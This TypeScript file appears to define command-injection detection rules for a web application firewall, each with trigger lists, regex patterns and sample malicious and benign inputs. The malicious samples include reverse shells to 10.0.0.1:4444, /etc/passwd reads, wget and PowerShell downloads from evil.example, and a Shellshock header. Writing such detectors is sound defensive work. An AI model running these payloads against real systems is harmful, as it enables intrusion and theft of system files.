import type { Severity } from '@gatewatch/model';
import { PART_KINDS } from '../requests/inspected-request.js';
import { COMMANDS } from '../shell/commands.js';
import { SHELL_CLAIM, shellClaims } from '../shell/shell-claims.js';
import type { Rule } from '../signature-contract.js';

/** Programs whose names need no separator or argument to be seen. */
const PROGRAMS = [...COMMANDS].filter(([, kind]) => kind === 'never-a-word').map(([word]) => word);

const SHELL_TRIGGERS: readonly string[] = [
  ...[';', '|', '&', '\n', '\r', '`', '$', '{', 'bin/', '\\', '^', "'", '"', '.exe', 'net '],
  ...[' -', ' /', ' ~', ' <', ' >', ' *', ' http', ' c:', ' d:', ' e:'],
  ...['0', '1', '2', '3', '4', '5', '6', '7', '8', '9'].map((digit) => ` ${digit}`),
  ...PROGRAMS,
];

function claim(
  name: keyof typeof SHELL_CLAIM,
  id: string,
  severity: Severity,
  because: string,
  cases: Pick<Rule, 'bad' | 'good'>,
): Rule {
  const bit = SHELL_CLAIM[name];
  return {
    id: `rce-${id}`,
    category: 'rce',
    severity,
    because,
    parts: PART_KINDS,
    looksFor: { kind: 'scan', needs: SHELL_TRIGGERS, scan: (reading) => (shellClaims(reading) & bit) !== 0 },
    ...cases,
  };
}

/** Command injection: text that a shell of Unix or Windows would run. */
export const RCE_COMMANDS: readonly Rule[] = [
  claim('chained', 'command-chained', 'critical', 'ends a command line and begins another command', {
    bad: [
      '127.0.0.1; cat /etc/passwd',
      'x|whoami',
      '& ping -n 30 127.0.0.1 &',
      ';id',
      '|id|',
      'a && ls /etc',
      "; cat /et'c/pa'ss'wd",
      ';netstat -a;',
      '; sleep 5',
      '\nwget http://evil.example/x',
      ';w""ho\\ami',
      `|cat\${IFS}/etc/hosts`,
    ],
    good: [
      'fish & chips',
      'dog & cat',
      'red;green;date',
      'name|id',
      'AT&T',
      'Q&A',
      'eat; sleep 8 hours',
      'java;php;python',
      'bread\ncat food\ndate night',
      'salt & more',
      'h2; time flies',
      'a=1&b=2',
    ],
  }),
  claim(
    'substituted',
    'command-substituted',
    'critical',
    'puts the output of a command in place (backticks, $(…), {…})',
    {
      bad: ['`id`', '$(whoami)', 'ax--exec=`id`--remote=origin', '{cat,/etc/passwd}', '"`false`"'],
      good: [
        'run `ls -la` to see the files',
        '$(document).ready',
        '{id}',
        '{id, name}',
        'costs $(5)',
        'the `date` field is set',
      ],
    },
  ),
  claim('line', 'command-line', 'high', 'is a command line', {
    bad: [
      'cat /etc/passwd',
      'ping -i 30 127.0.0.1',
      'ping.exe -n 31 127.0.0.1',
      'whoami',
      'wget http://evil.example/x.sh',
      'cmd.exe /c dir',
      'dir c:\\',
      'net user',
    ],
    good: [
      'cat food',
      'ping me later',
      'sleep well',
      'find your plan',
      'type of room',
      'time he came.',
      'echo in the mirror',
      'bash away in the gym',
      'nc 8000 controller',
      'net weight',
      'sort by date',
      'file',
      'date',
    ],
  }),
  claim('program', 'program', 'high', 'names a program by its path', {
    bad: ['/usr/bin/id', '/bin/sh', 'a;/bin/cat', '|usr/bin/id', '/bin/bash -i'],
    good: [
      '/bin/',
      'recycle bin/cat',
      '/cabin/cat',
      '/files/bin/readme.txt',
      'https://example.com/bin/find-a-store',
    ],
  }),
  {
    id: 'rce-shell-syntax',
    category: 'rce',
    severity: 'high',
    because:
      'uses what only shells understand: redirections, reverse shells, encoded PowerShell, wildcards for paths',
    parts: PART_KINDS,
    looksFor: {
      kind: 'pattern',
      needs: [
        '/dev/',
        '2>&1',
        '<<<',
        '-enc',
        'downloadstring',
        'comspec',
        '-e /bin',
        '-e sh',
        `\${ifs`,
        '$ifs',
        '???',
        'c?t',
        'invoke-',
        'new-object',
        '/e??',
        '/b?n',
        '/?',
        '/*/',
        'xp_cmdshell',
        'shell_exec',
        '%systemroot%',
        'powershell',
        'wscript.shell',
        '$shell',
        '$home',
        '|sh',
        '| sh',
        '|bash',
        '| bash',
        'alias ',
        '-wrapper',
      ],
      pattern: [
        String.raw`/dev/(?:tcp|udp)/|>\s*/dev/null|\b2>&1|<<<\s*['"$\w]`,
        String.raw`\bpowershell(?:\.exe)?\s+(?:-|/|&|iex|\(|\$|invoke)|\binvoke-(?:expression|webrequest|restmethod|command|item)\b|\bnew-object\s+(?:system\.)?net\.|\.downloadstring\s*\(`,
        String.raw`%(?:comspec|systemroot|windir)%|\bwscript\.shell\b|\$\{?ifs\b`,
        String.raw`\b(?:nc|ncat|netcat)(?:\.\w+)?\s+(?:-\w+\s+)*[\w.-]+\s+\d+\s+-e\b|\b(?:nc|ncat)\s+-\w*[el]\w*\s`,
        String.raw`(?:^|[\s;|&\x60(='"])/(?:[a-z]?\?[a-z?]*|[?*]{2,})/[a-z?*]*[?*]|(?:^|[\s;|&\x60(='"])/(?:e[t?*][c?*]|b[i?*][n?*])/[a-z?*]*[?*][a-z?*]*`,
        String.raw`\|\s*(?:ba|z|k|c|da)?sh\b\s*(?:$|[;&|<-])`,
      ].join('|'),
    },
    bad: [
      'bash -i >& /dev/tcp/10.0.0.1/4444',
      'powershell -enc ZQBj',
      '/???/c?t /???/p??s??',
      "IEX (New-Object Net.WebClient).DownloadString('http://evil.example')",
      'nc 10.0.0.1 4444 -e /bin/sh',
      'x | sh',
    ],
    good: ['what???', '/path?x=1', '/a/*/b', 'powershell course', 'shell | sea'],
  },
  {
    id: 'rce-shellshock',
    category: 'rce',
    severity: 'critical',
    because: 'defines a function as old versions of bash take it from the environment (CVE-2014-6271)',
    parts: PART_KINDS,
    looksFor: {
      kind: 'pattern',
      needs: ['() {', '(){', ') {', '){'],
      pattern: String.raw`^[\s'"]*\(\s*\)\s*\{`,
    },
    bad: [{ headers: [{ name: 'User-Agent', value: '() { :; }; echo; /bin/id' }] }, '() { :;}; x', '(){ x'],
    good: ['function() { return 1 }', 'a () { }', 'f(x) { y }'],
  },
];
